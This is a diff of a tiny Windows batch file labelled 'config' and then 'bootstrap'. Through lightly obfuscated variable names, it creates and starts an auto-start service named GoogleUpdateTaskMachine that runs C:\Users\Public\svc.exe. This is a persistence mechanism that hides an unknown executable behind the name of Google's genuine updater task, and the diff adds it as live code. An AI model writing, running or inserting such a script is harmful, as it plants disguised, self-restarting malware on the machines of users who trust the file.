@@ -1,7 +1,7 @@
-REM config 6101 v0
+REM bootstrap 9448 v0
 @echo off
-set "vlay=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto"
-call %vlay%
+set zwhg=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+call %zwhg%
 @echo off
-set "nyer=sc start GoogleUpdateTaskMachine"
-call %nyer%
+set dxge=sc start GoogleUpdateTaskMachine
+call %dxge%
